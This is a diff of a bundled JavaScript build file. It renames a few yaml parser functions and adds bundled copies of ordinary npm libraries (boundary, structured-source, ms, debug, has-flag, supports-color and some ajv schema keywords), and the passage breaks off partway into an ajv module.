@@ -15927,7 +15927,7 @@ var require_public_api = __commonJS({
         return docs;
       return Object.assign([], { empty: true }, composer$1.streamInfo());
     }
-    function parseDocument(source, options = {}) {
+    function parseDocument2(source, options = {}) {
       const { lineCounter: lineCounter2, prettyErrors } = parseOptions(options);
       const parser$1 = new parser.Parser(lineCounter2?.addNewLine);
       const composer$1 = new composer.Composer(options);
@@ -15946,14 +15946,14 @@ var require_public_api = __commonJS({
       }
       return doc;
     }
-    function parse(src, reviver, options) {
+    function parse3(src, reviver, options) {
       let _reviver = void 0;
       if (typeof reviver === "function") {
         _reviver = reviver;
       } else if (options === void 0 && reviver && typeof reviver === "object") {
         options = reviver;
       }
-      const doc = parseDocument(src, options);
+      const doc = parseDocument2(src, options);
       if (!doc)
         return null;
       doc.warnings.forEach((warning) => log.warn(doc.options.logLevel, warning));
@@ -15987,9 +15987,9 @@ var require_public_api = __commonJS({
         return value.toString(options);
       return new Document.Document(value, _replacer, options).toString(options);
     }
-    exports.parse = parse;
+    exports.parse = parse3;
     exports.parseAllDocuments = parseAllDocuments;
-    exports.parseDocument = parseDocument;
+    exports.parseDocument = parseDocument2;
     exports.stringify = stringify;
   }
 });
@@ -16013,7 +16013,7 @@ var require_dist = __commonJS({
     var lineCounter = require_line_counter();
     var parser = require_parser();
     var publicApi = require_public_api();
-    var visit = require_visit();
+    var visit2 = require_visit();
     exports.Composer = composer.Composer;
     exports.Document = Document.Document;
     exports.Schema = Schema.Schema;
@@ -16041,8 +16041,2040 @@ var require_dist = __commonJS({
     exports.parseAllDocuments = publicApi.parseAllDocuments;
     exports.parseDocument = publicApi.parseDocument;
     exports.stringify = publicApi.stringify;
-    exports.visit = visit.visit;
-    exports.visitAsync = visit.visitAsync;
+    exports.visit = visit2.visit;
+    exports.visitAsync = visit2.visitAsync;
+  }
+});
+
+// node_modules/boundary/lib/index.js
+var require_lib = __commonJS({
+  "node_modules/boundary/lib/index.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.binarySearch = exports.upperBound = exports.lowerBound = exports.compare = void 0;
+    function compare(v1, v2) {
+      return v1 < v2;
+    }
+    exports.compare = compare;
+    function upperBound(array, value, comp = compare) {
+      let len = array.length;
+      let i2 = 0;
+      while (len) {
+        let diff = len >>> 1;
+        let cursor = i2 + diff;
+        if (comp(value, array[cursor])) {
+          len = diff;
+        } else {
+          i2 = cursor + 1;
+          len -= diff + 1;
+        }
+      }
+      return i2;
+    }
+    exports.upperBound = upperBound;
+    function lowerBound(array, value, comp = compare) {
+      let len = array.length;
+      let i2 = 0;
+      while (len) {
+        let diff = len >>> 1;
+        let cursor = i2 + diff;
+        if (comp(array[cursor], value)) {
+          i2 = cursor + 1;
+          len -= diff + 1;
+        } else {
+          len = diff;
+        }
+      }
+      return i2;
+    }
+    exports.lowerBound = lowerBound;
+    function binarySearch(array, value, comp = compare) {
+      let cursor = lowerBound(array, value, comp);
+      return cursor !== array.length && !comp(value, array[cursor]);
+    }
+    exports.binarySearch = binarySearch;
+  }
+});
+
+// node_modules/structured-source/lib/structured-source.js
+var require_structured_source = __commonJS({
+  "node_modules/structured-source/lib/structured-source.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.StructuredSource = void 0;
+    var boundary_1 = require_lib();
+    var StructuredSource2 = class {
+      /**
+       * @constructs StructuredSource
+       * @param {string} source - source code text.
+       */
+      constructor(source) {
+        this.indice = [0];
+        let regexp = /[\r\n\u2028\u2029]/g;
+        const length = source.length;
+        regexp.lastIndex = 0;
+        while (true) {
+          let result = regexp.exec(source);
+          if (!result) {
+            break;
+          }
+          let index = result.index;
+          if (source.charCodeAt(index) === 13 && source.charCodeAt(index + 1) === 10) {
+            index += 1;
+          }
+          let nextIndex = index + 1;
+          if (length < nextIndex) {
+            break;
+          }
+          this.indice.push(nextIndex);
+          regexp.lastIndex = nextIndex;
+        }
+      }
+      get line() {
+        return this.indice.length;
+      }
+      /**
+       * @param {SourceLocation} loc - location indicator.
+       * @return {[ number, number ]} range.
+       */
+      locationToRange(loc2) {
+        return [this.positionToIndex(loc2.start), this.positionToIndex(loc2.end)];
+      }
+      /**
+       * @param {[ number, number ]} range - pair of indice.
+       * @return {SourceLocation} location.
+       */
+      rangeToLocation(range) {
+        return {
+          start: this.indexToPosition(range[0]),
+          end: this.indexToPosition(range[1])
+        };
+      }
+      /**
+       * @param {SourcePosition} pos - position indicator.
+       * @return {number} index.
+       */
+      positionToIndex(pos) {
+        let start2 = this.indice[pos.line - 1];
+        return start2 + pos.column;
+      }
+      /**
+       * @param {number} index - index to the source code.
+       * @return {SourcePosition} position.
+       */
+      indexToPosition(index) {
+        const startLine = (0, boundary_1.upperBound)(this.indice, index);
+        return {
+          line: startLine,
+          column: index - this.indice[startLine - 1]
+        };
+      }
+    };
+    exports.StructuredSource = StructuredSource2;
+  }
+});
+
+// node_modules/ms/index.js
+var require_ms = __commonJS({
+  "node_modules/ms/index.js"(exports, module2) {
+    var s = 1e3;
+    var m = s * 60;
+    var h = m * 60;
+    var d = h * 24;
+    var w = d * 7;
+    var y = d * 365.25;
+    module2.exports = function(val, options) {
+      options = options || {};
+      var type = typeof val;
+      if (type === "string" && val.length > 0) {
+        return parse3(val);
+      } else if (type === "number" && isFinite(val)) {
+        return options.long ? fmtLong(val) : fmtShort(val);
+      }
+      throw new Error(
+        "val is not a non-empty string or a valid number. val=" + JSON.stringify(val)
+      );
+    };
+    function parse3(str2) {
+      str2 = String(str2);
+      if (str2.length > 100) {
+        return;
+      }
+      var match = /^(-?(?:\d+)?\.?\d+) *(milliseconds?|msecs?|ms|seconds?|secs?|s|minutes?|mins?|m|hours?|hrs?|h|days?|d|weeks?|w|years?|yrs?|y)?$/i.exec(
+        str2
+      );
+      if (!match) {
+        return;
+      }
+      var n = parseFloat(match[1]);
+      var type = (match[2] || "ms").toLowerCase();
+      switch (type) {
+        case "years":
+        case "year":
+        case "yrs":
+        case "yr":
+        case "y":
+          return n * y;
+        case "weeks":
+        case "week":
+        case "w":
+          return n * w;
+        case "days":
+        case "day":
+        case "d":
+          return n * d;
+        case "hours":
+        case "hour":
+        case "hrs":
+        case "hr":
+        case "h":
+          return n * h;
+        case "minutes":
+        case "minute":
+        case "mins":
+        case "min":
+        case "m":
+          return n * m;
+        case "seconds":
+        case "second":
+        case "secs":
+        case "sec":
+        case "s":
+          return n * s;
+        case "milliseconds":
+        case "millisecond":
+        case "msecs":
+        case "msec":
+        case "ms":
+          return n;
+        default:
+          return void 0;
+      }
+    }
+    function fmtShort(ms) {
+      var msAbs = Math.abs(ms);
+      if (msAbs >= d) {
+        return Math.round(ms / d) + "d";
+      }
+      if (msAbs >= h) {
+        return Math.round(ms / h) + "h";
+      }
+      if (msAbs >= m) {
+        return Math.round(ms / m) + "m";
+      }
+      if (msAbs >= s) {
+        return Math.round(ms / s) + "s";
+      }
+      return ms + "ms";
+    }
+    function fmtLong(ms) {
+      var msAbs = Math.abs(ms);
+      if (msAbs >= d) {
+        return plural2(ms, msAbs, d, "day");
+      }
+      if (msAbs >= h) {
+        return plural2(ms, msAbs, h, "hour");
+      }
+      if (msAbs >= m) {
+        return plural2(ms, msAbs, m, "minute");
+      }
+      if (msAbs >= s) {
+        return plural2(ms, msAbs, s, "second");
+      }
+      return ms + " ms";
+    }
+    function plural2(ms, msAbs, n, name2) {
+      var isPlural = msAbs >= n * 1.5;
+      return Math.round(ms / n) + " " + name2 + (isPlural ? "s" : "");
+    }
+  }
+});
+
+// node_modules/debug/src/common.js
+var require_common = __commonJS({
+  "node_modules/debug/src/common.js"(exports, module2) {
+    function setup(env) {
+      createDebug.debug = createDebug;
+      createDebug.default = createDebug;
+      createDebug.coerce = coerce;
+      createDebug.disable = disable;
+      createDebug.enable = enable;
+      createDebug.enabled = enabled;
+      createDebug.humanize = require_ms();
+      createDebug.destroy = destroy;
+      Object.keys(env).forEach((key) => {
+        createDebug[key] = env[key];
+      });
+      createDebug.names = [];
+      createDebug.skips = [];
+      createDebug.formatters = {};
+      function selectColor(namespace) {
+        let hash = 0;
+        for (let i2 = 0; i2 < namespace.length; i2++) {
+          hash = (hash << 5) - hash + namespace.charCodeAt(i2);
+          hash |= 0;
+        }
+        return createDebug.colors[Math.abs(hash) % createDebug.colors.length];
+      }
+      createDebug.selectColor = selectColor;
+      function createDebug(namespace) {
+        let prevTime;
+        let enableOverride = null;
+        let namespacesCache;
+        let enabledCache;
+        function debug2(...args2) {
+          if (!debug2.enabled) {
+            return;
+          }
+          const self2 = debug2;
+          const curr = Number(/* @__PURE__ */ new Date());
+          const ms = curr - (prevTime || curr);
+          self2.diff = ms;
+          self2.prev = prevTime;
+          self2.curr = curr;
+          prevTime = curr;
+          args2[0] = createDebug.coerce(args2[0]);
+          if (typeof args2[0] !== "string") {
+            args2.unshift("%O");
+          }
+          let index = 0;
+          args2[0] = args2[0].replace(/%([a-zA-Z%])/g, (match, format2) => {
+            if (match === "%%") {
+              return "%";
+            }
+            index++;
+            const formatter = createDebug.formatters[format2];
+            if (typeof formatter === "function") {
+              const val = args2[index];
+              match = formatter.call(self2, val);
+              args2.splice(index, 1);
+              index--;
+            }
+            return match;
+          });
+          createDebug.formatArgs.call(self2, args2);
+          const logFn = self2.log || createDebug.log;
+          logFn.apply(self2, args2);
+        }
+        debug2.namespace = namespace;
+        debug2.useColors = createDebug.useColors();
+        debug2.color = createDebug.selectColor(namespace);
+        debug2.extend = extend;
+        debug2.destroy = createDebug.destroy;
+        Object.defineProperty(debug2, "enabled", {
+          enumerable: true,
+          configurable: false,
+          get: () => {
+            if (enableOverride !== null) {
+              return enableOverride;
+            }
+            if (namespacesCache !== createDebug.namespaces) {
+              namespacesCache = createDebug.namespaces;
+              enabledCache = createDebug.enabled(namespace);
+            }
+            return enabledCache;
+          },
+          set: (v) => {
+            enableOverride = v;
+          }
+        });
+        if (typeof createDebug.init === "function") {
+          createDebug.init(debug2);
+        }
+        return debug2;
+      }
+      function extend(namespace, delimiter) {
+        const newDebug = createDebug(this.namespace + (typeof delimiter === "undefined" ? ":" : delimiter) + namespace);
+        newDebug.log = this.log;
+        return newDebug;
+      }
+      function enable(namespaces) {
+        createDebug.save(namespaces);
+        createDebug.namespaces = namespaces;
+        createDebug.names = [];
+        createDebug.skips = [];
+        const split = (typeof namespaces === "string" ? namespaces : "").trim().replace(/\s+/g, ",").split(",").filter(Boolean);
+        for (const ns of split) {
+          if (ns[0] === "-") {
+            createDebug.skips.push(ns.slice(1));
+          } else {
+            createDebug.names.push(ns);
+          }
+        }
+      }
+      function matchesTemplate(search, template) {
+        let searchIndex = 0;
+        let templateIndex = 0;
+        let starIndex = -1;
+        let matchIndex = 0;
+        while (searchIndex < search.length) {
+          if (templateIndex < template.length && (template[templateIndex] === search[searchIndex] || template[templateIndex] === "*")) {
+            if (template[templateIndex] === "*") {
+              starIndex = templateIndex;
+              matchIndex = searchIndex;
+              templateIndex++;
+            } else {
+              searchIndex++;
+              templateIndex++;
+            }
+          } else if (starIndex !== -1) {
+            templateIndex = starIndex + 1;
+            matchIndex++;
+            searchIndex = matchIndex;
+          } else {
+            return false;
+          }
+        }
+        while (templateIndex < template.length && template[templateIndex] === "*") {
+          templateIndex++;
+        }
+        return templateIndex === template.length;
+      }
+      function disable() {
+        const namespaces = [
+          ...createDebug.names,
+          ...createDebug.skips.map((namespace) => "-" + namespace)
+        ].join(",");
+        createDebug.enable("");
+        return namespaces;
+      }
+      function enabled(name2) {
+        for (const skip of createDebug.skips) {
+          if (matchesTemplate(name2, skip)) {
+            return false;
+          }
+        }
+        for (const ns of createDebug.names) {
+          if (matchesTemplate(name2, ns)) {
+            return true;
+          }
+        }
+        return false;
+      }
+      function coerce(val) {
+        if (val instanceof Error) {
+          return val.stack || val.message;
+        }
+        return val;
+      }
+      function destroy() {
+        console.warn("Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`.");
+      }
+      createDebug.enable(createDebug.load());
+      return createDebug;
+    }
+    module2.exports = setup;
+  }
+});
+
+// node_modules/debug/src/browser.js
+var require_browser = __commonJS({
+  "node_modules/debug/src/browser.js"(exports, module2) {
+    exports.formatArgs = formatArgs;
+    exports.save = save;
+    exports.load = load;
+    exports.useColors = useColors;
+    exports.storage = localstorage();
+    exports.destroy = /* @__PURE__ */ (() => {
+      let warned = false;
+      return () => {
+        if (!warned) {
+          warned = true;
+          console.warn("Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`.");
+        }
+      };
+    })();
+    exports.colors = [
+      "#0000CC",
+      "#0000FF",
+      "#0033CC",
+      "#0033FF",
+      "#0066CC",
+      "#0066FF",
+      "#0099CC",
+      "#0099FF",
+      "#00CC00",
+      "#00CC33",
+      "#00CC66",
+      "#00CC99",
+      "#00CCCC",
+      "#00CCFF",
+      "#3300CC",
+      "#3300FF",
+      "#3333CC",
+      "#3333FF",
+      "#3366CC",
+      "#3366FF",
+      "#3399CC",
+      "#3399FF",
+      "#33CC00",
+      "#33CC33",
+      "#33CC66",
+      "#33CC99",
+      "#33CCCC",
+      "#33CCFF",
+      "#6600CC",
+      "#6600FF",
+      "#6633CC",
+      "#6633FF",
+      "#66CC00",
+      "#66CC33",
+      "#9900CC",
+      "#9900FF",
+      "#9933CC",
+      "#9933FF",
+      "#99CC00",
+      "#99CC33",
+      "#CC0000",
+      "#CC0033",
+      "#CC0066",
+      "#CC0099",
+      "#CC00CC",
+      "#CC00FF",
+      "#CC3300",
+      "#CC3333",
+      "#CC3366",
+      "#CC3399",
+      "#CC33CC",
+      "#CC33FF",
+      "#CC6600",
+      "#CC6633",
+      "#CC9900",
+      "#CC9933",
+      "#CCCC00",
+      "#CCCC33",
+      "#FF0000",
+      "#FF0033",
+      "#FF0066",
+      "#FF0099",
+      "#FF00CC",
+      "#FF00FF",
+      "#FF3300",
+      "#FF3333",
+      "#FF3366",
+      "#FF3399",
+      "#FF33CC",
+      "#FF33FF",
+      "#FF6600",
+      "#FF6633",
+      "#FF9900",
+      "#FF9933",
+      "#FFCC00",
+      "#FFCC33"
+    ];
+    function useColors() {
+      if (typeof window !== "undefined" && window.process && (window.process.type === "renderer" || window.process.__nwjs)) {
+        return true;
+      }
+      if (typeof navigator !== "undefined" && navigator.userAgent && navigator.userAgent.toLowerCase().match(/(edge|trident)\/(\d+)/)) {
+        return false;
+      }
+      let m;
+      return typeof document !== "undefined" && document.documentElement && document.documentElement.style && document.documentElement.style.WebkitAppearance || // Is firebug? http://stackoverflow.com/a/398120/376773
+      typeof window !== "undefined" && window.console && (window.console.firebug || window.console.exception && window.console.table) || // Is firefox >= v31?
+      // https://developer.mozilla.org/en-US/docs/Tools/Web_Console#Styling_messages
+      typeof navigator !== "undefined" && navigator.userAgent && (m = navigator.userAgent.toLowerCase().match(/firefox\/(\d+)/)) && parseInt(m[1], 10) >= 31 || // Double check webkit in userAgent just in case we are in a worker
+      typeof navigator !== "undefined" && navigator.userAgent && navigator.userAgent.toLowerCase().match(/applewebkit\/(\d+)/);
+    }
+    function formatArgs(args2) {
+      args2[0] = (this.useColors ? "%c" : "") + this.namespace + (this.useColors ? " %c" : " ") + args2[0] + (this.useColors ? "%c " : " ") + "+" + module2.exports.humanize(this.diff);
+      if (!this.useColors) {
+        return;
+      }
+      const c = "color: " + this.color;
+      args2.splice(1, 0, c, "color: inherit");
+      let index = 0;
+      let lastC = 0;
+      args2[0].replace(/%[a-zA-Z%]/g, (match) => {
+        if (match === "%%") {
+          return;
+        }
+        index++;
+        if (match === "%c") {
+          lastC = index;
+        }
+      });
+      args2.splice(lastC, 0, c);
+    }
+    exports.log = console.debug || console.log || (() => {
+    });
+    function save(namespaces) {
+      try {
+        if (namespaces) {
+          exports.storage.setItem("debug", namespaces);
+        } else {
+          exports.storage.removeItem("debug");
+        }
+      } catch (error) {
+      }
+    }
+    function load() {
+      let r2;
+      try {
+        r2 = exports.storage.getItem("debug") || exports.storage.getItem("DEBUG");
+      } catch (error) {
+      }
+      if (!r2 && typeof process !== "undefined" && "env" in process) {
+        r2 = process.env.DEBUG;
+      }
+      return r2;
+    }
+    function localstorage() {
+      try {
+        return localStorage;
+      } catch (error) {
+      }
+    }
+    module2.exports = require_common()(exports);
+    var { formatters } = module2.exports;
+    formatters.j = function(v) {
+      try {
+        return JSON.stringify(v);
+      } catch (error) {
+        return "[UnexpectedJSONParseError]: " + error.message;
+      }
+    };
+  }
+});
+
+// node_modules/has-flag/index.js
+var require_has_flag = __commonJS({
+  "node_modules/has-flag/index.js"(exports, module2) {
+    "use strict";
+    module2.exports = (flag, argv = process.argv) => {
+      const prefix = flag.startsWith("-") ? "" : flag.length === 1 ? "-" : "--";
+      const position = argv.indexOf(prefix + flag);
+      const terminatorPosition = argv.indexOf("--");
+      return position !== -1 && (terminatorPosition === -1 || position < terminatorPosition);
+    };
+  }
+});
+
+// node_modules/supports-color/index.js
+var require_supports_color = __commonJS({
+  "node_modules/supports-color/index.js"(exports, module2) {
+    "use strict";
+    var os = __require("os");
+    var tty = __require("tty");
+    var hasFlag = require_has_flag();
+    var { env } = process;
+    var forceColor;
+    if (hasFlag("no-color") || hasFlag("no-colors") || hasFlag("color=false") || hasFlag("color=never")) {
+      forceColor = 0;
+    } else if (hasFlag("color") || hasFlag("colors") || hasFlag("color=true") || hasFlag("color=always")) {
+      forceColor = 1;
+    }
+    if ("FORCE_COLOR" in env) {
+      if (env.FORCE_COLOR === "true") {
+        forceColor = 1;
+      } else if (env.FORCE_COLOR === "false") {
+        forceColor = 0;
+      } else {
+        forceColor = env.FORCE_COLOR.length === 0 ? 1 : Math.min(parseInt(env.FORCE_COLOR, 10), 3);
+      }
+    }
+    function translateLevel(level) {
+      if (level === 0) {
+        return false;
+      }
+      return {
+        level,
+        hasBasic: true,
+        has256: level >= 2,
+        has16m: level >= 3
+      };
+    }
+    function supportsColor(haveStream, streamIsTTY) {
+      if (forceColor === 0) {
+        return 0;
+      }
+      if (hasFlag("color=16m") || hasFlag("color=full") || hasFlag("color=truecolor")) {
+        return 3;
+      }
+      if (hasFlag("color=256")) {
+        return 2;
+      }
+      if (haveStream && !streamIsTTY && forceColor === void 0) {
+        return 0;
+      }
+      const min = forceColor || 0;
+      if (env.TERM === "dumb") {
+        return min;
+      }
+      if (process.platform === "win32") {
+        const osRelease = os.release().split(".");
+        if (Number(osRelease[0]) >= 10 && Number(osRelease[2]) >= 10586) {
+          return Number(osRelease[2]) >= 14931 ? 3 : 2;
+        }
+        return 1;
+      }
+      if ("CI" in env) {
+        if (["TRAVIS", "CIRCLECI", "APPVEYOR", "GITLAB_CI", "GITHUB_ACTIONS", "BUILDKITE"].some((sign) => sign in env) || env.CI_NAME === "codeship") {
+          return 1;
+        }
+        return min;
+      }
+      if ("TEAMCITY_VERSION" in env) {
+        return /^(9\.(0*[1-9]\d*)\.|\d{2,}\.)/.test(env.TEAMCITY_VERSION) ? 1 : 0;
+      }
+      if (env.COLORTERM === "truecolor") {
+        return 3;
+      }
+      if ("TERM_PROGRAM" in env) {
+        const version = parseInt((env.TERM_PROGRAM_VERSION || "").split(".")[0], 10);
+        switch (env.TERM_PROGRAM) {
+          case "iTerm.app":
+            return version >= 3 ? 3 : 2;
+          case "Apple_Terminal":
+            return 2;
+        }
+      }
+      if (/-256(color)?$/i.test(env.TERM)) {
+        return 2;
+      }
+      if (/^screen|^xterm|^vt100|^vt220|^rxvt|color|ansi|cygwin|linux/i.test(env.TERM)) {
+        return 1;
+      }
+      if ("COLORTERM" in env) {
+        return 1;
+      }
+      return min;
+    }
+    function getSupportLevel(stream) {
+      const level = supportsColor(stream, stream && stream.isTTY);
+      return translateLevel(level);
+    }
+    module2.exports = {
+      supportsColor: getSupportLevel,
+      stdout: translateLevel(supportsColor(true, tty.isatty(1))),
+      stderr: translateLevel(supportsColor(true, tty.isatty(2)))
+    };
+  }
+});
+
+// node_modules/debug/src/node.js
+var require_node = __commonJS({
+  "node_modules/debug/src/node.js"(exports, module2) {
+    var tty = __require("tty");
+    var util = __require("util");
+    exports.init = init3;
+    exports.log = log;
+    exports.formatArgs = formatArgs;
+    exports.save = save;
+    exports.load = load;
+    exports.useColors = useColors;
+    exports.destroy = util.deprecate(
+      () => {
+      },
+      "Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`."
+    );
+    exports.colors = [6, 2, 3, 4, 5, 1];
+    try {
+      const supportsColor = require_supports_color();
+      if (supportsColor && (supportsColor.stderr || supportsColor).level >= 2) {
+        exports.colors = [
+          20,
+          21,
+          26,
+          27,
+          32,
+          33,
+          38,
+          39,
+          40,
+          41,
+          42,
+          43,
+          44,
+          45,
+          56,
+          57,
+          62,
+          63,
+          68,
+          69,
+          74,
+          75,
+          76,
+          77,
+          78,
+          79,
+          80,
+          81,
+          92,
+          93,
+          98,
+          99,
+          112,
+          113,
+          128,
+          129,
+          134,
+          135,
+          148,
+          149,
+          160,
+          161,
+          162,
+          163,
+          164,
+          165,
+          166,
+          167,
+          168,
+          169,
+          170,
+          171,
+          172,
+          173,
+          178,
+          179,
+          184,
+          185,
+          196,
+          197,
+          198,
+          199,
+          200,
+          201,
+          202,
+          203,
+          204,
+          205,
+          206,
+          207,
+          208,
+          209,
+          214,
+          215,
+          220,
+          221
+        ];
+      }
+    } catch (error) {
+    }
+    exports.inspectOpts = Object.keys(process.env).filter((key) => {
+      return /^debug_/i.test(key);
+    }).reduce((obj, key) => {
+      const prop = key.substring(6).toLowerCase().replace(/_([a-z])/g, (_, k) => {
+        return k.toUpperCase();
+      });
+      let val = process.env[key];
+      if (/^(yes|on|true|enabled)$/i.test(val)) {
+        val = true;
+      } else if (/^(no|off|false|disabled)$/i.test(val)) {
+        val = false;
+      } else if (val === "null") {
+        val = null;
+      } else {
+        val = Number(val);
+      }
+      obj[prop] = val;
+      return obj;
+    }, {});
+    function useColors() {
+      return "colors" in exports.inspectOpts ? Boolean(exports.inspectOpts.colors) : tty.isatty(process.stderr.fd);
+    }
+    function formatArgs(args2) {
+      const { namespace: name2, useColors: useColors2 } = this;
+      if (useColors2) {
+        const c = this.color;
+        const colorCode = "\x1B[3" + (c < 8 ? c : "8;5;" + c);
+        const prefix = `  ${colorCode};1m${name2} \x1B[0m`;
+        args2[0] = prefix + args2[0].split("\n").join("\n" + prefix);
+        args2.push(colorCode + "m+" + module2.exports.humanize(this.diff) + "\x1B[0m");
+      } else {
+        args2[0] = getDate() + name2 + " " + args2[0];
+      }
+    }
+    function getDate() {
+      if (exports.inspectOpts.hideDate) {
+        return "";
+      }
+      return (/* @__PURE__ */ new Date()).toISOString() + " ";
+    }
+    function log(...args2) {
+      return process.stderr.write(util.formatWithOptions(exports.inspectOpts, ...args2) + "\n");
+    }
+    function save(namespaces) {
+      if (namespaces) {
+        process.env.DEBUG = namespaces;
+      } else {
+        delete process.env.DEBUG;
+      }
+    }
+    function load() {
+      return process.env.DEBUG;
+    }
+    function init3(debug2) {
+      debug2.inspectOpts = {};
+      const keys = Object.keys(exports.inspectOpts);
+      for (let i2 = 0; i2 < keys.length; i2++) {
+        debug2.inspectOpts[keys[i2]] = exports.inspectOpts[keys[i2]];
+      }
+    }
+    module2.exports = require_common()(exports);
+    var { formatters } = module2.exports;
+    formatters.o = function(v) {
+      this.inspectOpts.colors = this.useColors;
+      return util.inspect(v, this.inspectOpts).split("\n").map((str2) => str2.trim()).join(" ");
+    };
+    formatters.O = function(v) {
+      this.inspectOpts.colors = this.useColors;
+      return util.inspect(v, this.inspectOpts);
+    };
+  }
+});
+
+// node_modules/debug/src/index.js
+var require_src = __commonJS({
+  "node_modules/debug/src/index.js"(exports, module2) {
+    if (typeof process === "undefined" || process.type === "renderer" || process.browser === true || process.__nwjs) {
+      module2.exports = require_browser();
+    } else {
+      module2.exports = require_node();
+    }
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/dynamic/dynamicAnchor.js
+var require_dynamicAnchor = __commonJS({
+  "node_modules/ajv/dist/vocabularies/dynamic/dynamicAnchor.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.dynamicAnchor = void 0;
+    var codegen_1 = require_codegen();
+    var names_1 = require_names();
+    var compile_1 = require_compile();
+    var ref_1 = require_ref();
+    var def = {
+      keyword: "$dynamicAnchor",
+      schemaType: "string",
+      code: (cxt) => dynamicAnchor(cxt, cxt.schema)
+    };
+    function dynamicAnchor(cxt, anchor) {
+      const { gen, it } = cxt;
+      it.schemaEnv.root.dynamicAnchors[anchor] = true;
+      const v = (0, codegen_1._)`${names_1.default.dynamicAnchors}${(0, codegen_1.getProperty)(anchor)}`;
+      const validate2 = it.errSchemaPath === "#" ? it.validateName : _getValidate(cxt);
+      gen.if((0, codegen_1._)`!${v}`, () => gen.assign(v, validate2));
+    }
+    exports.dynamicAnchor = dynamicAnchor;
+    function _getValidate(cxt) {
+      const { schemaEnv, schema, self: self2 } = cxt.it;
+      const { root, baseId, localRefs, meta: meta9 } = schemaEnv.root;
+      const { schemaId } = self2.opts;
+      const sch = new compile_1.SchemaEnv({ schema, schemaId, root, baseId, localRefs, meta: meta9 });
+      compile_1.compileSchema.call(self2, sch);
+      return (0, ref_1.getValidate)(cxt, sch);
+    }
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/dynamic/dynamicRef.js
+var require_dynamicRef = __commonJS({
+  "node_modules/ajv/dist/vocabularies/dynamic/dynamicRef.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.dynamicRef = void 0;
+    var codegen_1 = require_codegen();
+    var names_1 = require_names();
+    var ref_1 = require_ref();
+    var def = {
+      keyword: "$dynamicRef",
+      schemaType: "string",
+      code: (cxt) => dynamicRef(cxt, cxt.schema)
+    };
+    function dynamicRef(cxt, ref) {
+      const { gen, keyword, it } = cxt;
+      if (ref[0] !== "#")
+        throw new Error(`"${keyword}" only supports hash fragment reference`);
+      const anchor = ref.slice(1);
+      if (it.allErrors) {
+        _dynamicRef();
+      } else {
+        const valid = gen.let("valid", false);
+        _dynamicRef(valid);
+        cxt.ok(valid);
+      }
+      function _dynamicRef(valid) {
+        if (it.schemaEnv.root.dynamicAnchors[anchor]) {
+          const v = gen.let("_v", (0, codegen_1._)`${names_1.default.dynamicAnchors}${(0, codegen_1.getProperty)(anchor)}`);
+          gen.if(v, _callRef(v, valid), _callRef(it.validateName, valid));
+        } else {
+          _callRef(it.validateName, valid)();
+        }
+      }
+      function _callRef(validate2, valid) {
+        return valid ? () => gen.block(() => {
+          (0, ref_1.callRef)(cxt, validate2);
+          gen.let(valid, true);
+        }) : () => (0, ref_1.callRef)(cxt, validate2);
+      }
+    }
+    exports.dynamicRef = dynamicRef;
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/dynamic/recursiveAnchor.js
+var require_recursiveAnchor = __commonJS({
+  "node_modules/ajv/dist/vocabularies/dynamic/recursiveAnchor.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var dynamicAnchor_1 = require_dynamicAnchor();
+    var util_1 = require_util();
+    var def = {
+      keyword: "$recursiveAnchor",
+      schemaType: "boolean",
+      code(cxt) {
+        if (cxt.schema)
+          (0, dynamicAnchor_1.dynamicAnchor)(cxt, "");
+        else
+          (0, util_1.checkStrictMode)(cxt.it, "$recursiveAnchor: false is ignored");
+      }
+    };
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/dynamic/recursiveRef.js
+var require_recursiveRef = __commonJS({
+  "node_modules/ajv/dist/vocabularies/dynamic/recursiveRef.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var dynamicRef_1 = require_dynamicRef();
+    var def = {
+      keyword: "$recursiveRef",
+      schemaType: "string",
+      code: (cxt) => (0, dynamicRef_1.dynamicRef)(cxt, cxt.schema)
+    };
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/dynamic/index.js
+var require_dynamic = __commonJS({
+  "node_modules/ajv/dist/vocabularies/dynamic/index.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var dynamicAnchor_1 = require_dynamicAnchor();
+    var dynamicRef_1 = require_dynamicRef();
+    var recursiveAnchor_1 = require_recursiveAnchor();
+    var recursiveRef_1 = require_recursiveRef();
+    var dynamic = [dynamicAnchor_1.default, dynamicRef_1.default, recursiveAnchor_1.default, recursiveRef_1.default];
+    exports.default = dynamic;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/validation/dependentRequired.js
+var require_dependentRequired = __commonJS({
+  "node_modules/ajv/dist/vocabularies/validation/dependentRequired.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var dependencies_1 = require_dependencies();
+    var def = {
+      keyword: "dependentRequired",
+      type: "object",
+      schemaType: "object",
+      error: dependencies_1.error,
+      code: (cxt) => (0, dependencies_1.validatePropertyDeps)(cxt)
+    };
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/applicator/dependentSchemas.js
+var require_dependentSchemas = __commonJS({
+  "node_modules/ajv/dist/vocabularies/applicator/dependentSchemas.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var dependencies_1 = require_dependencies();
+    var def = {
+      keyword: "dependentSchemas",
+      type: "object",
+      schemaType: "object",
+      code: (cxt) => (0, dependencies_1.validateSchemaDeps)(cxt)
+    };
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/validation/limitContains.js
+var require_limitContains = __commonJS({
+  "node_modules/ajv/dist/vocabularies/validation/limitContains.js"(exports) {
+    "use strict";
